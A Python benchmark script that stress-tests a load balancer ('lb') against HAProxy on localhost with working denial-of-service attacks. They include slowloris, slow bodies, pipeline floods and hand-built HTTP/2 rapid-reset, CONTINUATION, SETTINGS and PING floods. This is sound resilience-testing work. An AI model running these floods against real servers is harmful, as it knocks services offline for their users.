"""Abuse, side by side: what hostile clients and a hostile backend do to normal users.

    .venv/bin/python bench/abuse.py [--seconds 20] [--attacks slowloris,slow_body,...]
        [--proxies lb,haproxy] [--backends 4] [--users 20] [--newconn 4] [--haproxy-checks] [--tag T]

The same `lb backend` processes (v1) sit behind lb (one worker) and behind HAProxy (one
thread, timeouts set like lb's defaults: 10 s for a request head, 60 s idle, 1 h
tunnels, leastconn, backend keep-alive; no health checks unless --haproxy-checks gives it
lb's). For each phase, lb and then HAProxy, each
freshly started (no phase inherits another's memory):

  users     --users keep-alive users (one connection each, cookies kept, 50 ms
            think time; a user leaves after 50 requests and a new one connects)
            and --newconn clients that open a new connection for every request
            (an attack that blocks accepting hides behind connected users).
            They run in their own process, from 3 s before the phase (not
            measured) to its end; every request's start, latency and outcome is
            recorded. A failure is a connection
            error, a timeout (10 s), a closed connection or a status other than 200.
  quiet     --seconds of users alone: the baseline.
  attacks   each for --seconds, in its own process, then a 5 s settle (the
            settle counts toward the attack: a failure it causes late is its own):
    slowloris      1,000 connections each sending a header line every 2 s
    slow_body      200 POSTs announcing 1 GB, sending 1 byte every 2 s
    partial_heads  1,000 connections each sending 15 KB of a request head (the
                   limit is 16 KiB), then a header line every 2 s (issue 25's figure)
    slow_bodies    500 POSTs announcing 1 GB, sending 1 byte every 2 s (issue 25's)
    slow_reader    500 clients asking for 100 MiB and never reading
    pipeline_flood 200 connections writing pipelined GETs until the proxy stops
                   reading (256 KiB at a time), never reading a response
    trailer_flood  50 connections sending a chunked body's last chunk, then
                   endless 1 KiB trailer lines
    big_head       20 clients asking for /headers?kib=256: the backend answers
                   with a 256 KiB response head (the proxy must refuse it, 502)
    idle_conns     8,000 connections that never send a byte
    idle_ws        2,000 WebSockets opened through the proxy, then idle
  HTTP/2 attacks (h2_*), raw frames (hand-built, HPACK by the hpack library, nothing
  checked) on an h2c port with prior knowledge (lb: a second listener with http2: true;
  HAProxy: a second `bind ... proto h2`); the users stay on HTTP/1.1. Each connection
  opens the connection window wide (the stream windows stay at 64 KiB) and, unless said,
  reads what the proxy sends (SETTINGS acknowledged, GOAWAY/RST_STREAM/statuses counted):
    h2_rapid_reset      20 connections of HEADERS (GET /) + RST_STREAM, 100 streams a write
    h2_made_you_reset   20 connections of POST /sink with content-length: 1 and 2 bytes of
                        DATA (the proxy resets each itself), 20 streams at a time
    h2_continuation     200 connections of HEADERS + CONTINUATION frames of 16 KiB, never
                        END_HEADERS
    h2_settings_flood   20 connections of SETTINGS frames, 100 a write, never reading (the
                        ACKs back up)
    h2_ping_flood       20 connections of PINGs, 100 a write, never reading
    h2_slow_reader      1,000 streams (100 connections x 10) asking for 100 MiB, never
                        opening their stream window
    h2_header_names     20 connections of GETs, 10 at a time, each with one new header name
                        of 15,000 bytes (lb passes it under its 16 KiB header limit; HAProxy
                        resets a stream with a name of 256 bytes or more)
    Connections the proxy closes are opened again, so the attack holds for its
    whole length.

Measured per phase: the users' requests, failures, p50/p99 (keep-alive users and
new-connection clients apart), the proxy's peak RSS (lb: its master and worker summed) (VmHWM after resetting it
through /proc/PID/clear_refs at the phase start, and VmRSS sampled every 50 ms),
its peak anonymous memory (RssAnon: the heap, without the mapped executable and
libraries), its CPU (utime+stime over the phase, as % of one core), the bytes it wrote (/proc/PID/io wchar), and what the
attacker saw (connections, statuses, GOAWAYs). Writes bench/results/abuse[-T].json and
prints a table with the bar's verdict per phase: 0 failures for the users through lb,
lb's RSS growth (peak - start) <= 1.5 x HAProxy's + 8 MiB, and the users' p99 through lb
(keep-alive and new-connection each) <= 1.5 x HAProxy's + 5 ms. HAProxy comes from
bench/setup.sh.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import platform
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections import Counter
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
import throughput  # noqa: E402  (bench/ is this script's directory)
from throughput import cpu_seconds, free_port, wait_port  # noqa: E402

RESULTS = ROOT / "bench" / "results"
H2_ATTACKS = ("h2_rapid_reset", "h2_made_you_reset", "h2_continuation", "h2_settings_flood", "h2_ping_flood",
              "h2_slow_reader", "h2_header_names")
ATTACKS = ("slowloris", "slow_body", "partial_heads", "slow_bodies", "slow_reader", "pipeline_flood", "trailer_flood", "big_head",
           "idle_conns", "idle_ws", *H2_ATTACKS)
SETTLE_S = 5.0
WARMUP_S = 3.0
REQUEST_TIMEOUT_S = 10.0
THINK_S = 0.05
USER_LIFE = 50
RSS_FACTOR, RSS_SLACK_MIB = 1.5, 8.0        # the bar: lb's RSS growth <= 1.5 x HAProxy's + 8 MiB
P99_FACTOR, P99_SLACK_MS = 1.5, 5.0         # and the users' p99 through lb <= 1.5 x HAProxy's + 5 ms


# -- the users (their own process) ------------------------------------------------------

def run_users(args) -> int:
    """Keep-alive users and new-connection clients until SIGTERM; then the records as JSON."""
    import h11

    from lb.demo.users import Closed, Connection

    records: list[tuple[float, float, str, int]] = []      # (sent, latency_s, kind, status)
    failures: list[tuple[float, str, str]] = []            # (sent, kind, what)
    stop = asyncio.Event()
    host = "127.0.0.1"

    async def request(conn: Connection, headers: list, kind: str, sent: float) -> tuple:
        response, body = await conn.request("/", headers, REQUEST_TIMEOUT_S)
        records.append((sent, time.monotonic() - sent, kind, response.status_code))
        if response.status_code != 200:
            failures.append((sent, kind, f"status {response.status_code}"))
        return response

    async def keepalive_user() -> None:
        while not stop.is_set():
            cookie, conn, sent = None, None, time.monotonic()
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(host, args.port), REQUEST_TIMEOUT_S)
                conn = Connection(reader, writer)
                for _ in range(USER_LIFE):
                    if stop.is_set():
                        break
                    headers = [("Host", "lb.test"), ("User-Agent", "abuse-users")]
                    if cookie:
                        headers.append(("Cookie", cookie))
                    sent = time.monotonic()
                    response = await request(conn, headers, "keepalive", sent)
                    for name, value in response.headers:
                        if name == b"set-cookie" and value.startswith(b"lb_version="):
                            cookie = value.split(b";", 1)[0].decode()
                    if not conn.next_cycle():
                        raise Closed("the proxy ended the connection (Connection: close)")
                    await asyncio.sleep(THINK_S)
            except (Closed, OSError, h11.ProtocolError, asyncio.TimeoutError, ValueError) as exc:
                failures.append((sent, "keepalive", f"{type(exc).__name__}: {exc}"))
                await asyncio.sleep(THINK_S)
            finally:
                if conn is not None:
                    conn.close()

    async def newconn_client() -> None:
        while not stop.is_set():
            sent, conn = time.monotonic(), None
            try:
                reader, writer = await asyncio.wait_for(asyncio.open_connection(host, args.port), REQUEST_TIMEOUT_S)
                conn = Connection(reader, writer)
                await request(conn, [("Host", "lb.test"), ("Connection", "close")], "newconn", sent)
            except (Closed, OSError, h11.ProtocolError, asyncio.TimeoutError, ValueError) as exc:
                failures.append((sent, "newconn", f"{type(exc).__name__}: {exc}"))
            finally:
                if conn is not None:
                    conn.close()
            await asyncio.sleep(THINK_S)

    async def main() -> None:
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
        tasks = [asyncio.create_task(keepalive_user()) for _ in range(args.users)]
        tasks += [asyncio.create_task(newconn_client()) for _ in range(args.newconn)]
        await stop.wait()
        await asyncio.wait(tasks, timeout=REQUEST_TIMEOUT_S + 1)
        for task in tasks:
            task.cancel()

    _run(main())
    Path(args.out).write_text(json.dumps({"records": records, "failures": failures}))
    return 0


def _run(coro) -> None:
    try:
        import uvloop
        uvloop.run(coro)
    except ImportError:
        asyncio.run(coro)


# -- the attacks (their own process) ------------------------------------------------------

class Attack:
    """One attack against 127.0.0.1:port for `seconds`; counts what it saw."""

    def __init__(self, port: int, seconds: float):
        self.port, self.seconds = port, seconds
        self.deadline = time.monotonic() + seconds
        self.seen = Counter()

    @property
    def running(self) -> bool:
        return time.monotonic() < self.deadline

    async def connect(self):
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", self.port, limit=1 << 16)
        except OSError as exc:
            self.seen[f"connect error: {type(exc).__name__}"] += 1
            await asyncio.sleep(0.1)
            return None
        self.seen["connections"] += 1
        return reader, writer

    def answered(self, data: bytes) -> None:
        """Count the status of a response head at the start of data."""
        if data.startswith(b"HTTP/1."):
            self.seen[f"status {data[9:12].decode('latin-1')}"] += 1
        else:
            self.seen["closed without a response"] += 1

    async def held(self, reader, writer, drip: bytes | None, every_s: float) -> None:
        """Send `drip` every `every_s` until the peer answers or closes, or the attack ends."""
        while self.running:
            try:
                data = await asyncio.wait_for(reader.read(65536), min(every_s, max(0.01, self.deadline - time.monotonic())))
            except asyncio.TimeoutError:
                if drip:
                    try:
                        writer.write(drip)
                    except (OSError, RuntimeError):
                        self.seen["closed by the proxy"] += 1
                        return
                continue
            except OSError:
                self.seen["reset by the proxy"] += 1
                return
            self.answered(data)
            self.seen["closed by the proxy"] += 1
            return

    async def loop(self, one) -> None:
        """Run `one(reader, writer)` on a connection, again on a new one whenever it ends, until the end."""
        while self.running:
            conn = await self.connect()
            if conn is None:
                continue
            reader, writer = conn
            try:
                await one(reader, writer)
            except (OSError, asyncio.IncompleteReadError) as exc:
                self.seen[f"error: {type(exc).__name__}"] += 1
            finally:
                writer.transport.abort()

    async def many(self, count: int, one) -> None:
        """`count` connections at once (opened 200 at a time, like a client ramping up)."""
        tasks = []
        for i in range(count):
            tasks.append(asyncio.create_task(self.loop(one)))
            if i % 200 == 199:
                await asyncio.sleep(0.05)
        await asyncio.gather(*tasks)

    # The attacks -------------------------------------------------------------------------
    async def slowloris(self) -> None:
        async def one(reader, writer):
            writer.write(b"GET / HTTP/1.1\r\nHost: lb.test\r\n")
            await self.held(reader, writer, b"X-Slow: 1\r\n", 2.0)
        await self.many(1000, one)

    async def slow_posts(self, count: int) -> None:
        async def one(reader, writer):
            writer.write(b"POST /sink HTTP/1.1\r\nHost: lb.test\r\nContent-Length: 1000000000\r\n\r\n")
            await self.held(reader, writer, b"x", 2.0)
        await self.many(count, one)

    async def slow_body(self) -> None:
        await self.slow_posts(200)

    async def partial_heads(self) -> None:
        head = b"GET / HTTP/1.1\r\nHost: lb.test\r\n" + b"X-Pad: " + b"p" * 990 + b"\r\n"
        head += (b"X-Pad: " + b"p" * 990 + b"\r\n") * 14                 # 15,000 bytes, no blank line

        async def one(reader, writer):
            writer.write(head)
            await self.held(reader, writer, b"X-Slow: 1\r\n", 2.0)
        await self.many(1000, one)

    async def slow_bodies(self) -> None:
        await self.slow_posts(500)

    async def slow_reader(self) -> None:
        async def one(reader, writer):
            writer.write(b"GET /bytes?n=104857600 HTTP/1.1\r\nHost: lb.test\r\n\r\n")
            writer.transport.pause_reading()            # never read: the proxy's writes back up
            while self.running and not writer.is_closing():
                await asyncio.sleep(0.2)
        await self.many(500, one)

    async def pipeline_flood(self) -> None:
        batch = b"GET / HTTP/1.1\r\nHost: lb.test\r\n\r\n" * (262144 // 33)

        async def one(reader, writer):
            writer.transport.pause_reading()
            while self.running:
                writer.write(batch)
                try:
                    await asyncio.wait_for(writer.drain(), max(0.01, self.deadline - time.monotonic()))
                except asyncio.TimeoutError:
                    return
                self.seen["256 KiB written"] += 1
        await self.many(200, one)

    async def trailer_flood(self) -> None:
        line = b"X-T: " + b"a" * 1017 + b"\r\n"

        async def one(reader, writer):
            writer.write(b"POST /sink HTTP/1.1\r\nHost: lb.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n")
            await self.held(reader, writer, line * 16, 0.001)
        await self.many(50, one)

    async def big_head(self) -> None:
        async def one(reader, writer):
            writer.write(b"GET /headers?kib=256 HTTP/1.1\r\nHost: lb.test\r\nConnection: close\r\n\r\n")
            data = await asyncio.wait_for(reader.read(65536), REQUEST_TIMEOUT_S)
            self.answered(data)
            while data:                                   # HAProxy or lb close after the 502
                data = await asyncio.wait_for(reader.read(65536), REQUEST_TIMEOUT_S)
        await self.many(20, one)

    async def idle_conns(self) -> None:
        async def one(reader, writer):
            await self.held(reader, writer, None, 1.0)
        await self.many(8000, one)

    async def idle_ws(self) -> None:
        async def one(reader, writer):
            writer.write(b"GET /ws HTTP/1.1\r\nHost: lb.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                         b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n")
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), REQUEST_TIMEOUT_S)
            self.answered(head)
            await self.held(reader, writer, None, 1.0)
        await self.many(2000, one)

    # HTTP/2 attacks ------------------------------------------------------------------------
    async def h2_flood(self, connections: int, batch, what: str, read: bool = True,
                       answered: bool = False) -> None:
        """On `connections` connections at once: the preface, then `batch(n)` (the n-th write's
        bytes, and how many streams it opens) as fast as the proxy takes it, until the proxy
        ends the connection (a new one is opened) or the attack ends. `read`: the proxy's
        frames are read and counted, else never read; `answered`: wait for the proxy to end
        each write's streams (1 s at most) before the next."""
        async def one(reader, writer):
            writer.write(H2_HELLO)
            peer = H2Peer(self, reader, writer) if read else None
            if not read:
                writer.transport.pause_reading()
            n, opened = 0, 0
            try:
                while self.running and not (peer and peer.gone) and not writer.is_closing():
                    data, streams = batch(n)
                    n, opened = n + 1, opened + streams
                    writer.write(data)
                    await asyncio.wait_for(writer.drain(), max(0.01, self.deadline - time.monotonic()))
                    self.seen[what] += 1
                    if answered and peer:
                        await peer.wait_ended(opened, 1.0)
                    await asyncio.sleep(0)          # drain() does not yield while the socket takes it all
            except asyncio.TimeoutError:
                pass
            finally:
                if peer:
                    peer.task.cancel()
        await self.many(connections, one)

    async def h2_rapid_reset(self) -> None:
        def batch(n):
            first = 1 + 200 * n
            return b"".join(h2_frame(HEADERS, END_STREAM | END_HEADERS, sid, H2_GET)
                            + h2_frame(RST_STREAM, 0, sid, CANCEL) for sid in range(first, first + 200, 2)), 100
        await self.h2_flood(20, batch, "100 streams opened and reset")

    async def h2_made_you_reset(self) -> None:
        post = h2_block([(b":method", b"POST"), (b":scheme", b"http"), (b":path", b"/sink"),
                         (b":authority", b"lb.test"), (b"content-length", b"1")])

        def batch(n):
            first = 1 + 40 * n
            return b"".join(h2_frame(HEADERS, END_HEADERS, sid, post) + h2_frame(DATA, END_STREAM, sid, b"xx")
                            for sid in range(first, first + 40, 2)), 20
        await self.h2_flood(20, batch, "20 streams of 2 bytes for content-length: 1", answered=True)

    async def h2_continuation(self) -> None:
        block = (h2_block([(b"x-c", b"c" * 1000)]) * 17)[:16384]      # fields of 1 KB, cut anywhere
        headers = h2_frame(HEADERS, 0, 1, block)
        continuations = h2_frame(CONTINUATION, 0, 1, block) * 4

        def batch(n):
            return (headers if n == 0 else b"") + continuations, 0
        await self.h2_flood(200, batch, "64 KiB of header block")

    async def h2_settings_flood(self) -> None:
        settings = h2_frame(SETTINGS, 0, 0, (2).to_bytes(2, "big") + (0).to_bytes(4, "big")) * 100  # ENABLE_PUSH 0
        await self.h2_flood(20, lambda n: (settings, 0), "100 SETTINGS", read=False)

    async def h2_ping_flood(self) -> None:
        pings = h2_frame(PING, 0, 0, b"abuse!!!") * 100
        await self.h2_flood(20, lambda n: (pings, 0), "100 PINGs", read=False)

    async def h2_slow_reader(self) -> None:
        get = h2_block([(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/bytes?n=104857600"),
                        (b":authority", b"lb.test")])
        requests = b"".join(h2_frame(HEADERS, END_STREAM | END_HEADERS, sid, get) for sid in range(1, 21, 2))

        async def one(reader, writer):
            writer.write(H2_HELLO + requests)      # 10 streams, whose windows are never opened
            peer = H2Peer(self, reader, writer)
            try:
                while self.running and not peer.gone:
                    await asyncio.sleep(0.2)
            finally:
                peer.task.cancel()
        await self.many(100, one)

    async def h2_header_names(self) -> None:
        async def one(reader, writer):
            writer.write(H2_HELLO)
            peer = H2Peer(self, reader, writer)
            first = 1
            try:
                while self.running and not peer.gone:
                    frames = []
                    for sid in range(first, first + 20, 2):
                        name = b"x-" + os.urandom((H2_NAME_BYTES - 2) // 2).hex().encode()
                        frames.append(h2_frame(HEADERS, END_STREAM | END_HEADERS, sid,
                                               H2_GET + h2_block([(name, b"1")])))
                    first += 20
                    writer.write(b"".join(frames))
                    await writer.drain()
                    self.seen["10 requests with new header names"] += 1
                    await peer.wait_ended(peer.ended + 10, REQUEST_TIMEOUT_S)   # an answer or a reset each
            finally:
                peer.task.cancel()
        await self.many(20, one)


# The frames of the HTTP/2 attacks, built by hand so that nothing checks them.
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = (8).to_bytes(4, "big")
# A new header name of 15,000 bytes passes lb's limits.max_header_bytes (16 KiB for the whole
# list; lb forwards up to ~16,300); HAProxy 2.6 refuses any name of 256 bytes or more over
# HTTP/2 with RST_STREAM PROTOCOL_ERROR (measured: 255 passes, 256 does not), so there each
# such request costs it a reset.
H2_NAME_BYTES = 15000


def h2_frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream_id.to_bytes(4, "big") + payload


def h2_block(fields: list) -> bytes:
    """An HPACK block that leaves the decoder's dynamic table alone (static entries and
    never-indexed literals), so the same bytes serve on every connection."""
    from hpack import Encoder, NeverIndexedHeaderTuple
    return Encoder().encode([NeverIndexedHeaderTuple(name, value) for name, value in fields], huffman=False)


H2_GET = h2_block([(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/"), (b":authority", b"lb.test")])
# The preface, empty SETTINGS, and the connection's window opened wide: only the streams'
# windows (64 KiB each) hold back what the proxy sends.
H2_HELLO = (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(SETTINGS, 0, 0)
            + h2_frame(WINDOW_UPDATE, 0, 0, (1 << 30).to_bytes(4, "big")))


def _h2_error(code: bytes) -> str:
    from h2.errors import ErrorCodes
    value = int.from_bytes(code[:4], "big")
    try:
        return ErrorCodes(value).name
    except ValueError:
        return str(value)


class H2Peer:
    """What the proxy sends on one attacker connection, read in a task and counted in the
    attack's `seen`. SETTINGS are acknowledged; no window is ever opened."""

    def __init__(self, attack: Attack, reader, writer):
        from hpack import Decoder
        self.attack, self.writer = attack, writer
        self.decoder = Decoder()
        self.ended = 0                      # streams the proxy ended (END_STREAM or RST_STREAM)
        self.progress = asyncio.Event()
        self.task = asyncio.create_task(self._read(reader))

    @property
    def gone(self) -> bool:
        return self.task.done()

    async def wait_ended(self, count: int, timeout_s: float) -> None:
        """Until the proxy has ended `count` streams or the connection, `timeout_s` at most."""
        deadline = time.monotonic() + timeout_s
        while self.ended < count and not self.gone and time.monotonic() < deadline:
            self.progress.clear()
            try:
                await asyncio.wait_for(self.progress.wait(), deadline - time.monotonic())
            except asyncio.TimeoutError:
                return

    async def _read(self, reader) -> None:
        buffer = bytearray()
        try:
            while data := await reader.read(1 << 16):
                buffer += data
                while len(buffer) >= 9 and len(buffer) >= (end := 9 + int.from_bytes(buffer[:3], "big")):
                    self._frame(buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF,
                                bytes(buffer[9:end]))
                    del buffer[:end]
            self.attack.seen["closed by the proxy"] += 1
        except OSError:
            self.attack.seen["reset by the proxy"] += 1
        finally:
            self.progress.set()

    def _frame(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        seen = self.attack.seen
        if kind == SETTINGS and not flags & ACK and not self.writer.is_closing():
            self.writer.write(h2_frame(SETTINGS, ACK, 0))
        elif kind == GOAWAY:
            seen[f"GOAWAY {_h2_error(payload[4:8])}"] += 1
        elif kind == RST_STREAM:
            seen[f"RST_STREAM {_h2_error(payload)}"] += 1
        elif kind == HEADERS:
            seen[f"status {self._status(flags, payload)}"] += 1
        if kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM):
            self.ended += 1
            self.progress.set()

    def _status(self, flags: int, payload: bytes) -> str:
        if not flags & END_HEADERS or flags & 0x28:          # continued, padded or with priority: not read
            return "?"
        try:
            return dict(self.decoder.decode(payload, raw=True)).get(b":status", b"?").decode()
        except Exception:                                    # noqa: BLE001  (a count, not a check)
            return "undecodable"

def run_attack(args) -> int:
    attack = Attack(args.port, args.seconds)

    async def main():
        try:
            await asyncio.wait_for(getattr(attack, args.attack)(), args.seconds + 5)
        except asyncio.TimeoutError:
            pass
    _run(main())
    print(json.dumps(dict(attack.seen)))
    return 0


# -- the system under test ----------------------------------------------------------------

def start_backends(workdir: Path, count: int, procs: list) -> list[int]:
    ports = [free_port() for _ in range(count)]
    for i, port in enumerate(ports):
        procs.append(subprocess.Popen([sys.executable, "-m", "lb.cli", "backend", "--listen", f"127.0.0.1:{port}",
                                       "--name", f"web{i + 1}", "--version", "v1"], cwd=ROOT,
                                      stdout=subprocess.DEVNULL, stderr=open(workdir / f"web{i + 1}.err", "wb")))
    for port in ports:
        wait_port(port)
    return ports


def start_lb(workdir: Path, ports: list[int], procs: list, h2c_port: int | None = None) -> tuple[int, int]:
    """lb with one worker; `h2c_port`: a second listener there with http2: true (h2c)."""
    port = free_port()
    backends = "\n".join(f"  - {{name: web{i + 1}, address: '127.0.0.1:{p}', version: v1}}" for i, p in enumerate(ports))
    listen = f"[127.0.0.1:{port}, {{address: '127.0.0.1:{h2c_port}', http2: true}}]" if h2c_port else f"127.0.0.1:{port}"
    conf = workdir / "lb.yaml"
    conf.write_text(f"""listen: {listen}
workers: 1
admin: {{socket: {workdir}/lb.sock}}
metrics: {{listen: 127.0.0.1:{free_port()}}}
state_file: {workdir}/lb.state
access_log: off
backends:
{backends}
""")
    proc = subprocess.Popen([sys.executable, "-m", "lb.cli", "serve", "-c", str(conf)], cwd=ROOT,
                            stderr=open(workdir / "lb.err", "wb"))
    procs.append(proc)
    wait_port(port, proc=proc)
    return proc.pid, port


# lb's default health checks (health: GET /health every 1 s, 1 s timeout, fall 3, rise 2)
# in HAProxy's words, for --haproxy-checks.
HAPROXY_CHECKS = """
  timeout check 1s
  option httpchk GET /health
  default-server check inter 1s fall 3 rise 2"""


def start_haproxy(workdir: Path, ports: list[int], procs: list, h2c_port: int | None = None,
                  checks: bool = False) -> tuple[int, int]:
    """HAProxy with lb's default limits: 10 s for a head, 60 s idle, 30 s to a first byte, 1 h
    tunnels; `h2c_port`: a second bind there with `proto h2`; `checks`: lb's health checks."""
    return throughput.start_haproxy(workdir, ports, procs, maxconn=9000, h2c_port=h2c_port, timeouts="""  timeout connect 2s
  timeout client 60s
  timeout http-request 10s
  timeout http-keep-alive 60s
  timeout server 30s
  timeout tunnel 1h
  timeout queue 5s""" + (HAPROXY_CHECKS if checks else ""))


def wait_serving(port: int, timeout_s: float = 30.0) -> None:
    """Until 20 requests in a row get 200 (lb's health checks have brought the nodes up)."""
    import urllib.request
    deadline, ok = time.monotonic() + timeout_s, 0
    while ok < 20:
        if time.monotonic() > deadline:
            raise RuntimeError(f"127.0.0.1:{port} does not serve after {timeout_s}s")
        try:
            with urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2) as response:
                ok = ok + 1 if response.status == 200 else 0
        except OSError:
            ok = 0
            time.sleep(0.1)


def status_kib(pid: int, field: str) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    return 0


def process_tree(pid: int) -> list[int]:
    """pid and its descendants (lb's master and its workers)."""
    pids = [pid]
    for task in Path(f"/proc/{pid}/task").iterdir():
        for child in (task / "children").read_text().split():
            pids += process_tree(int(child))
    return pids


class Sampler:
    """Peak RSS and CPU of a process and its children (lb's master and workers) over a phase.
    Peaks of the tree are sums over its processes."""

    def __init__(self, pid: int):
        self.pid = pid

    def kib(self, field: str) -> int:
        return sum(status_kib(pid, field) for pid in process_tree(self.pid))

    def start(self) -> None:
        self.hwm = True
        for pid in process_tree(self.pid):
            try:
                Path(f"/proc/{pid}/clear_refs").write_text("5")     # resets VmHWM to the current RSS
            except OSError:
                self.hwm = False
        self.cpu0, self.t0 = cpu_seconds(self.pid), time.monotonic()
        self.wrote0 = sum(written_bytes(pid) for pid in process_tree(self.pid))
        self.rss0 = self.peak = self.kib("VmRSS")
        self.anon0 = self.anon_peak = self.kib("RssAnon")

    def sample(self) -> None:
        self.peak = max(self.peak, self.kib("VmRSS"))
        self.anon_peak = max(self.anon_peak, self.kib("RssAnon"))

    def result(self) -> dict:
        if self.hwm:
            self.peak = max(self.peak, self.kib("VmHWM"))
        elapsed = time.monotonic() - self.t0
        return {"rss_start_mib": round(self.rss0 / 1024, 1), "rss_peak_mib": round(self.peak / 1024, 1),
                "anon_start_mib": round(self.anon0 / 1024, 1), "anon_peak_mib": round(self.anon_peak / 1024, 1),
                "cpu_pct": round(100 * (cpu_seconds(self.pid) - self.cpu0) / elapsed, 1),
                "wrote_mib": round((sum(written_bytes(pid) for pid in process_tree(self.pid))
                                    - self.wrote0) / 1048576, 1)}


def written_bytes(pid: int) -> int:
    """What the process wrote through system calls (sockets included): /proc/PID/io wchar."""
    for line in Path(f"/proc/{pid}/io").read_text().splitlines():
        if line.startswith("wchar:"):
            return int(line.split()[1])
    return 0


def phase(pid: int, seconds: float, attack: str | None, port: int, workdir: Path) -> dict:
    sampler = Sampler(pid)
    sampler.start()
    start = time.monotonic()
    proc = None
    if attack:
        proc = subprocess.Popen([sys.executable, __file__, "--role", "attack", "--attack", attack,
                                 "--port", str(port), "--seconds", str(seconds)],
                                stdout=subprocess.PIPE, stderr=open(workdir / f"attack-{attack}.err", "wb"))
    end = start + seconds + (SETTLE_S if attack else 0)
    while time.monotonic() < end:
        sampler.sample()
        time.sleep(0.05)
    seen = {}
    if proc:
        out, _ = proc.communicate(timeout=60)
        seen = json.loads(out or b"{}")
    return {"attack": attack or "quiet", "window": [start, time.monotonic()], **sampler.result(), "attacker_saw": seen}


def percentile(values: list[float], q: float) -> float | None:
    if not values:
        return None
    ordered = sorted(values)
    return round(ordered[min(len(ordered) - 1, int(q * len(ordered)))] * 1000, 2)


def users_in(window: list[float], users: dict) -> dict:
    start, end = window
    out = {}
    for kind in ("keepalive", "newconn"):
        lat = [r[1] for r in users["records"] if r[2] == kind and start <= r[0] < end]
        failed = [f for f in users["failures"] if f[1] == kind and start <= f[0] < end]
        seconds = [[r[1] for r in users["records"] if r[2] == kind and start + i <= r[0] < start + i + 1]
                   for i in range(int(end - start))]
        out[kind] = {"requests": len(lat), "failures": len(failed), "p50_ms": percentile(lat, 0.5),
                     "p99_ms": percentile(lat, 0.99), "max_ms": percentile(lat, 1.0),
                     "failure_kinds": dict(Counter(f[2][:80] for f in failed)),
                     "max_ms_by_second": [percentile(second, 1.0) for second in seconds]}
    return out


def run_phase(name: str, attack: str | None, ports: list[int], args, workdir: Path) -> dict:
    """A fresh proxy and fresh users for one phase, so no phase inherits another's memory."""
    procs: list[subprocess.Popen] = []
    label = attack or "quiet"
    try:
        h2c_port = free_port() if attack in H2_ATTACKS else None     # the attack's port; users stay HTTP/1.1
        if name == "lb":
            pid, port = start_lb(workdir, ports, procs, h2c_port)
        else:
            pid, port = start_haproxy(workdir, ports, procs, h2c_port, checks=args.haproxy_checks)
        wait_serving(port)
        if h2c_port:
            wait_port(h2c_port)
        out = workdir / f"users-{name}-{label}.json"
        users = subprocess.Popen([sys.executable, __file__, "--role", "users", "--port", str(port),
                                  "--users", str(args.users), "--newconn", str(args.newconn), "--out", str(out)],
                                 stderr=open(workdir / f"users-{name}-{label}.err", "wb"))
        procs.append(users)
        time.sleep(WARMUP_S)                             # the users connect and warm up (not measured)
        entry = phase(pid, args.seconds, attack, h2c_port or port, workdir)
        users.send_signal(signal.SIGTERM)
        users.wait(timeout=60)
        entry["users"] = users_in(entry.pop("window"), json.loads(out.read_text()))
        return entry
    finally:
        for proc in reversed(procs):
            if proc.poll() is None:
                proc.terminate()
            try:
                proc.wait(timeout=40)
            except subprocess.TimeoutExpired:
                proc.kill()


def ratio(a, b) -> float | None:
    return round(a / b, 2) if a is not None and b else None


def bar(lb: dict, ha: dict) -> dict:
    """The bar for one phase: 0 failures for the users through lb; lb's RSS growth within
    1.5x HAProxy's + 8 MiB; the users' p99 through lb (keep-alive and new-connection each)
    within 1.5x HAProxy's + 5 ms. What missed, with the numbers."""
    failures = lb["users"]["keepalive"]["failures"] + lb["users"]["newconn"]["failures"]
    growth = [round(p["rss_peak_mib"] - p["rss_start_mib"], 1) for p in (lb, ha)]
    missed = []
    if failures:
        missed.append(f"{failures} failures")
    limit = round(RSS_FACTOR * max(growth[1], 0) + RSS_SLACK_MIB, 1)
    if growth[0] > limit:
        missed.append(f"RSS +{growth[0]} MiB > {limit} (HAProxy +{growth[1]})")
    for kind, label in (("keepalive", "keep-alive"), ("newconn", "new-conn")):
        mine, theirs = lb["users"][kind]["p99_ms"], ha["users"][kind]["p99_ms"]
        if mine is not None and theirs is not None and mine > P99_FACTOR * theirs + P99_SLACK_MS:
            missed.append(f"{label} p99 {mine} ms > {round(P99_FACTOR * theirs + P99_SLACK_MS, 1)} "
                          f"(HAProxy {theirs})")
    return {"met": not missed, "missed": missed, "lb_failures": failures, "rss_growth_mib": growth,
            "rss_growth_limit_mib": limit,
            "keepalive_p99_ratio": ratio(lb["users"]["keepalive"]["p99_ms"], ha["users"]["keepalive"]["p99_ms"]),
            "newconn_p99_ratio": ratio(lb["users"]["newconn"]["p99_ms"], ha["users"]["newconn"]["p99_ms"]),
            "rss_peak_ratio": ratio(lb["rss_peak_mib"], ha["rss_peak_mib"]),
            "anon_peak_ratio": ratio(lb["anon_peak_mib"], ha["anon_peak_mib"])}


def table(results: dict) -> tuple[str, dict]:
    """The per-attack table and the bar's verdict (on lb's row)."""
    names = list(results)
